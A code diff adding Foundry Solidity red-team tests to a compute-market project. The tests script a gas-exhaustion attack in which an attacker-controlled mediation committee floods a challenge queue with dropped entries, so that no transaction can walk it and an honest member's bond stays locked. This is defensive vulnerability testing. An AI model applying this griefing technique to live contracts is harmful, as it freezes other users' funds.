@@ -5,6 +5,12 @@ import {PondUnitBase} from "../unit/PondUnitBase.sol";
 import {IPondMarket} from "../../src/interfaces/IPondMarket.sol";
 import {JobStatus, Vote} from "../../src/types/Status.sol";
 
+/// @dev Foundry's `cool` cheatcode (not in the repository's small Vm interface): marks an
+///      account's storage cold again, as in a transaction of its own.
+interface CoolCheat {
+    function cool(address target) external;
+}
+
 /// @notice Attacks on who judges a challenge when someone holds members' bonds busy (helper 32's
 ///         red-team review, 2026-12-03). Each test asserts what the honest party must end with.
 contract QueueAttacksTest is PondUnitBase {
@@ -134,5 +140,161 @@ contract QueueAttacksTest is PondUnitBase {
             "a committee of five with one liar let a wrong result stand"
         );
         vm.assertGe(_total(creator), creatorBefore, "the creator lost on its provider's wrong result");
+    }
+
+    // ------------------------------------------------------------------ finding 3
+
+    event log_named_uint(string key, uint256 val);
+
+    /// @dev The per-transaction gas cap of EIP-7825 (Osaka): no transaction may use more.
+    uint256 internal constant TX_GAS_CAP = 1 << 24;
+
+    struct Brick {
+        uint32 committee;
+        address a1;
+        address a2;
+        address honest;
+        uint256 offerId;
+        uint256 head;
+        uint256 last;
+    }
+
+    /// @dev A committee {a1, a2, honest} (a1, a2 the attacker's, honest consented to it), and a
+    ///      queue on it of a live head, `n` dropped entries and a live tail, the attacker's
+    ///      members bonded again: `head` open, `last` waiting behind the dropped entries.
+    function _brick(uint256 n) internal returns (Brick memory b) {
+        address attacker = stranger;
+        (b.a1, b.a2, b.honest) = (address(0x2001), address(0x2002), address(0x2003));
+        _registerMediator(b.a1);
+        _registerMediator(b.a2);
+        _registerMediator(b.honest);
+        b.committee = _committee(b.a1, b.a2, b.honest);
+        // Collateral and a waiting challenge's fee: 6 fees a deal, all back when it is dropped.
+        _deposit(attacker, DEPOSIT + (n + 12) * 6 * uint256(MEDIATOR_FEE));
+        b.offerId = _freeOffer(attacker, b.committee);
+
+        // n + 2 self-dealt deals matched while the committee can judge, with a day to submit.
+        uint256[] memory ids = new uint256[](n + 2);
+        IPondMarket.JobRequest memory r = _jobRequest();
+        r.committeeId = b.committee;
+        r.price = 1;
+        r.solverFee = 0;
+        r.runTime = MAX_RUN_TIME;
+        r.moduleId = _tinyModule(); // one CPU millicore each: the offer fits them all
+        r.resources.cpuMillis = 1;
+        r.resources.ramMiB = 0;
+        r.resources.diskMiB = 0;
+        vm.startPrank(attacker);
+        for (uint256 k; k < n + 2; ++k) {
+            ids[k] = market.postJob{value: 1}(r);
+            market.matchJob(ids[k], b.offerId, _terms(ids[k]));
+        }
+        vm.stopPrank();
+
+        // The attacker's two members burn their bonds below a slash (silent on ten self-challenges;
+        // the honest member votes and is paid): the committee can no longer take a mediation.
+        uint256[] memory burn = new uint256[](MIN_BOND / SLASH);
+        for (uint256 k; k < burn.length; ++k) {
+            burn[k] = _selfChallenge(attacker, b.committee, b.offerId);
+            _commit(burn[k], b.honest, Vote.ProviderRight);
+        }
+        vm.warp(mediation.getMediation(burn[0]).commitDeadline);
+        for (uint256 k; k < burn.length; ++k) {
+            _reveal(burn[k], b.honest, Vote.ProviderRight);
+        }
+        vm.warp(mediation.getMediation(burn[0]).revealDeadline);
+        for (uint256 k; k < burn.length; ++k) {
+            market.resolveChallenge(burn[k], _terms(burn[k]), _result(burn[k]));
+        }
+        vm.assertLt(mediation.getMediator(b.a1).bond, SLASH);
+
+        // Every deal submitted and challenged: all wait; all but the first and the last dropped
+        // (each refunds the attacker's fee and lets its result stand).
+        vm.startPrank(attacker);
+        for (uint256 k; k < n + 2; ++k) {
+            market.submitResult(ids[k], CID);
+            market.challenge(ids[k], _terms(ids[k]), _result(ids[k]));
+        }
+        vm.stopPrank();
+        for (uint256 k = 1; k <= n; ++k) {
+            market.resolveChallenge(ids[k], _terms(ids[k]), _result(ids[k]));
+        }
+        (b.head, b.last) = (ids[0], ids[n + 1]);
+
+        // Bonded again with a slash each: the head opens.
+        _topUp(b.a1, SLASH);
+        _topUp(b.a2, SLASH);
+        mediation.openQueued(b.committee);
+        vm.assertTrue(mediation.getMediation(b.head).open);
+        (uint256 waiting,) = mediation.queued(b.committee);
+        vm.assertEq(waiting, n + 1);
+    }
+
+    /// @dev A new transaction: the registry's and the market's storage cold again.
+    function _coolAll() internal {
+        CoolCheat(address(vm)).cool(address(mediation));
+        CoolCheat(address(vm)).cool(address(market));
+    }
+
+    /// @dev Gas of closing the head's mediation (which walks the dropped entries to the tail).
+    function _closeHeadGas(uint256 n) internal returns (uint256 used) {
+        Brick memory b = _brick(n);
+        _commit(b.head, b.honest, Vote.ProviderRight);
+        vm.warp(mediation.getMediation(b.head).commitDeadline);
+        _reveal(b.head, b.honest, Vote.ProviderRight);
+        vm.warp(mediation.getMediation(b.head).revealDeadline);
+        _coolAll();
+        uint256 g = gasleft();
+        market.resolveChallenge(b.head, _terms(b.head), _result(b.head));
+        used = g - gasleft();
+    }
+
+    /// @notice Prices the walk: each dropped entry behind an opened head costs the next close
+    ///         (or challenge, or `openQueued`) of the committee about 7,000 gas, all in one
+    ///         transaction (`_skipDropped` saves its progress only at the end).
+    function test_measure_skipDroppedGasPerEntry() public {
+        uint256 snap = vm.snapshotState();
+        uint256 g100 = _closeHeadGas(100);
+        vm.revertToState(snap);
+        uint256 g300 = _closeHeadGas(300);
+        uint256 perEntry = (g300 - g100) / 200;
+        emit log_named_uint("gas per dropped entry walked", perEntry);
+        emit log_named_uint("dropped entries that exceed a 2^24-gas transaction", TX_GAS_CAP / perEntry);
+    }
+
+    /// @notice A committee whose majority is the attacker's (its honest member consented to two
+    ///         strangers) can be bricked for good: the attacker queues ~2,500 self-challenges
+    ///         while its two members are below a slash, drops all but the first and the last
+    ///         (each refunded: the attack costs gas and the two members' burned bonds), bonds its
+    ///         members again and opens the first. Every later transaction that walks the queue
+    ///         (`_skipDropped`, unbounded, progress saved only at its end) needs more gas than a
+    ///         transaction may use: the open mediation can never be closed (the close opens the
+    ///         next waiting one), the waiting one never opened nor dropped, a new challenge of
+    ///         the committee's deals never made (they still match: the committee is usable). The
+    ///         honest member, who voted the truth every time, can never complete its exit: its
+    ///         whole bond is stuck (its documented risk under a lying majority is a slash per
+    ///         mediation it loses, not the bond).
+    function test_attack_droppedEntriesBrickTheQueueAndLockAnHonestMembersBond() public {
+        uint256 n = 2_600;
+        Brick memory b = _brick(n);
+        uint256 bond = mediation.getMediator(b.honest).bond;
+        vm.prank(b.honest);
+        mediation.requestExit();
+        _commit(b.head, b.honest, Vote.ProviderRight);
+        vm.warp(mediation.getMediation(b.head).commitDeadline);
+        _reveal(b.head, b.honest, Vote.ProviderRight);
+        vm.warp(block.timestamp + EXIT_DELAY + 1 days);
+
+        // Anyone, with all the gas a transaction may have, closes the head's mediation.
+        _coolAll();
+        // (Its two members stay silent there and fall below a slash again: then anyone drops the
+        // last waiting challenge.) Without the walk, three transactions free the honest member.
+        try market.resolveChallenge{gas: TX_GAS_CAP}(b.head, _terms(b.head), _result(b.head)) {} catch {}
+        _coolAll();
+        try market.resolveChallenge{gas: TX_GAS_CAP}(b.last, _terms(b.last), _result(b.last)) {} catch {}
+        uint256 before = b.honest.balance;
+        vm.prank(b.honest);
+        try mediation.completeExit() {} catch {}
+        vm.assertEq(b.honest.balance - before, bond, "the honest member's bond is stuck for good");
     }
 }
